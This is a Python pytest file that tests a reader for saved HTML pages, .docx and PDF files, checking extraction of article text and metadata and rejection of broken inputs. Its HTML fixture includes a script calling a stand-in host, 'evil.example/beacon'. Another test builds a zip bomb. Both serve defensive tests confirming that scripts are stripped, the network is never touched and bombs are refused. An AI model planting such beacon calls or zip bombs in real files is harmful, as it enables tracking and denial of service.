"""HTML, .docx and PDF import from real files written in the test. No Qt, no network."""
from __future__ import annotations

import socket
import zipfile
from datetime import date, datetime, timezone
from pathlib import Path

import docx
import pytest
from pypdf import PdfWriter

from parallax.core.errors import InputError
from parallax.core.ingest.readers import read_file
from tests.fixtures.ingest.builders import IMAGE_ONLY_STREAM, make_pdf, text_stream, write_zip_bomb


@pytest.fixture
def no_network(monkeypatch):
    """Fail loudly, and record, any attempt to open a connection or resolve a name."""
    attempts: list[object] = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise OSError("network access in a test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    return attempts


def reason_of(path: Path) -> str:
    with pytest.raises(InputError) as err:
        read_file(path)
    assert str(err.value).startswith(f"{path.name}: ")
    return err.value.reason


# --- HTML -----------------------------------------------------------------------------

SAVED_PAGE = """<!DOCTYPE html>
<html lang="en-GB"><head>
<meta charset="{charset}">
<title>Troops stay in Iraq | The Daily Planet</title>
<meta property="og:site_name" content="The Daily Planet">
<meta name="author" content="Lois Lane">
<link rel="canonical" href="https://planet.example/world/iraq-troops">
<meta property="article:published_time" content="2021-07-26T10:00:00Z">
<link rel="stylesheet" href="https://cdn.example/site.css">
<script src="https://cdn.example/tracker.js"></script>
<script>var leaked = "SCRIPTTEXT"; fetch("https://evil.example/beacon");</script>
<style>body {{ font-family: STYLETEXT; }}</style>
</head><body>
<nav><a href="/">Home</a> <a href="/world">World</a> <a href="/sport">NAVTEXT</a></nav>
<div class="cookie-banner">We use cookies COOKIETEXT</div>
<article>
<h1>Troops stay in Iraq</h1>
<p>The United States will keep about 2,500 troops in Iraq, officials said on Monday, in a move that “changes little” on the ground.</p>
<img src="https://images.example/photo.jpg" alt="Soldiers">
<p>The new role will cost €5 million, officials in Baghdad said, and will focus on training and advice rather than combat.</p>
<p>Critics said the change was cosmetic and would not satisfy the factions demanding a full withdrawal of American forces.</p>
</article>
<footer>Copyright FOOTERTEXT</footer>
<script>document.write("MORESCRIPT")</script>
</body></html>
"""


@pytest.mark.parametrize("encoding", ["utf-8", "windows-1252"])
def test_saved_page(tmp_path: Path, no_network, encoding):
    path = tmp_path / "page.html"
    path.write_bytes(SAVED_PAGE.format(charset=encoding).encode(encoding))
    art = read_file(path)
    assert art.text == (
        "The United States will keep about 2,500 troops in Iraq, officials said on Monday, "
        "in a move that “changes little” on the ground.\n\n"
        "The new role will cost €5 million, officials in Baghdad said, and will focus on "
        "training and advice rather than combat.\n\n"
        "Critics said the change was cosmetic and would not satisfy the factions demanding "
        "a full withdrawal of American forces."
    )
    for junk in ("SCRIPTTEXT", "MORESCRIPT", "STYLETEXT", "NAVTEXT", "COOKIETEXT", "FOOTERTEXT", "http"):
        assert junk not in art.text
    assert art.title == "Troops stay in Iraq"
    assert art.outlet == "The Daily Planet"
    assert art.author == "Lois Lane"
    assert art.url == "https://planet.example/world/iraq-troops"
    assert art.published == date(2021, 7, 26)
    assert art.language == "en"
    assert art.fmt == "html"
    assert art.raw == path.read_bytes()
    assert no_network == []


def test_meta_overrides_page_metadata(tmp_path: Path, no_network):
    path = tmp_path / "page.htm"
    path.write_text(SAVED_PAGE.format(charset="utf-8"), encoding="utf-8")
    art = read_file(path, meta={"outlet": "Planet", "date": "2021-07-27", "title": "Other"})
    assert (art.outlet, art.published, art.title) == ("Planet", date(2021, 7, 27), "Other")


def test_page_without_article_text(tmp_path: Path, no_network):
    path = tmp_path / "menu.html"
    path.write_text(
        "<html><head><title>Menu</title><script>var x = 'SCRIPT';</script></head>"
        "<body><nav><a href='/'>Home</a></nav><img src='https://images.example/a.png'></body></html>",
        encoding="utf-8",
    )
    assert reason_of(path) == "no article text found in the page"
    assert no_network == []


# --- .docx ----------------------------------------------------------------------------

def write_docx(path: Path, *, title: str | None = None, heading: str | None = None) -> None:
    document = docx.Document()
    if heading:
        document.add_heading(heading, level=0)
    document.add_paragraph("date 2021-07-24")
    document.add_paragraph(
        "The Iraqi prime minister is travelling to Washington to call for the “withdrawal” of US combat troops."
    )
    document.add_paragraph("Advertisement")
    document.add_paragraph("Officials said the mission would cost €5 million and change little on the ground.")
    props = document.core_properties
    props.author = "Jane Arraf"
    props.created = datetime(2021, 8, 1, 9, 0, tzinfo=timezone.utc)
    if title:
        props.title = title
    document.save(str(path))


def test_docx(tmp_path: Path):
    path = tmp_path / "story.docx"
    write_docx(path, title="Iraqi PM heads to Washington")
    art = read_file(path)
    assert art.text == (
        "The Iraqi prime minister is travelling to Washington to call for the “withdrawal” of US combat troops.\n\n"
        "Officials said the mission would cost €5 million and change little on the ground."
    )
    assert (art.title, art.author, art.fmt) == ("Iraqi PM heads to Washington", "Jane Arraf", "docx")
    assert art.published == date(2021, 7, 24)  # the date line beats the file's creation date


def test_docx_title_style_heading_is_the_title(tmp_path: Path):
    path = tmp_path / "story.docx"
    write_docx(path, heading="Talks in Washington")
    art = read_file(path)
    assert art.title == "Talks in Washington"
    assert art.text.startswith("The Iraqi prime minister")


def test_docx_creation_date_is_a_fallback(tmp_path: Path):
    path = tmp_path / "plain.docx"
    document = docx.Document()
    document.add_paragraph("Officials said the mission would change little on the ground in Iraq.")
    document.core_properties.created = datetime(2021, 8, 1, 9, 0, tzinfo=timezone.utc)
    document.save(str(path))
    art = read_file(path)
    assert art.published == date(2021, 8, 1)
    assert art.author is None  # python-docx's placeholder author is not an author


def test_docx_not_a_zip(tmp_path: Path):
    path = tmp_path / "old.docx"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"old Word 97 file" * 20)
    assert reason_of(path) == "not a valid .docx (not a zip archive)"


def test_docx_without_document_xml(tmp_path: Path):
    path = tmp_path / "other.docx"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("notes.txt", "not a Word document")
    assert reason_of(path) == "not a valid .docx"


def test_docx_with_broken_document_xml(tmp_path: Path):
    path = tmp_path / "broken.docx"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types")
        zf.writestr("word/document.xml", "<w:document")
    assert reason_of(path) == "not a valid .docx"


def test_docx_zip_bomb_is_refused_without_expanding(tmp_path: Path):
    path = tmp_path / "bomb.docx"
    write_zip_bomb(path, member_mb=30)
    assert path.stat().st_size < 1024 * 1024
    assert reason_of(path) == "refused: .docx expands to too much data (zip bomb?)"


# --- PDF ------------------------------------------------------------------------------

def test_pdf(tmp_path: Path):
    path = tmp_path / "story.pdf"
    page1 = text_stream([
        "Troops to stay in Iraq",
        "The United States will keep about 2,500 troops in Iraq, officials said",
        "on Monday, in a move that \u201cchanges little\u201d on the ground for the",
        "soldiers there.",
        "Critics said the change was cosmetic.",
    ])
    page2 = text_stream(["Advertisement", "The new role will cost \u20ac5 million (officials said)."])
    path.write_bytes(make_pdf([page1, page2], {
        "Title": "Troops to stay in Iraq", "Author": "Lois Lane", "CreationDate": "D:20210726101500Z",
    }))
    art = read_file(path)
    assert art.text == (
        "The United States will keep about 2,500 troops in Iraq, officials said on Monday, in a move "
        "that “changes little” on the ground for the soldiers there.\n\n"
        "Critics said the change was cosmetic.\n\n"
        "The new role will cost €5 million (officials said)."
    )
    assert (art.title, art.author, art.published, art.fmt) == (
        "Troops to stay in Iraq", "Lois Lane", date(2021, 7, 26), "pdf")
    assert art.extra["pages"] == "2"


def test_pdf_without_text_layer(tmp_path: Path):
    path = tmp_path / "scan.pdf"
    path.write_bytes(make_pdf([IMAGE_ONLY_STREAM, IMAGE_ONLY_STREAM]))
    assert reason_of(path) == "PDF has no text layer (scanned image?); run OCR first"


@pytest.mark.parametrize("data", [
    b"%PDF-1.4\ngarbage garbage\n",
    b"%PDF-1.4\n1 0 obj\n<< >>\nendobj\n%%EOF",
    b"this is not a PDF at all, just text with a .pdf name",
    make_pdf([text_stream(["Some text on the page."])])[:300],  # truncated download
])
def test_broken_pdf(tmp_path: Path, data):
    path = tmp_path / "broken.pdf"
    path.write_bytes(data)
    assert reason_of(path) == "not a valid PDF"


def test_password_protected_pdf(tmp_path: Path):
    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    path = tmp_path / "locked.pdf"
    with path.open("wb") as fh:
        writer.write(fh)
    assert reason_of(path) == "PDF is password-protected; save a copy without the password first"
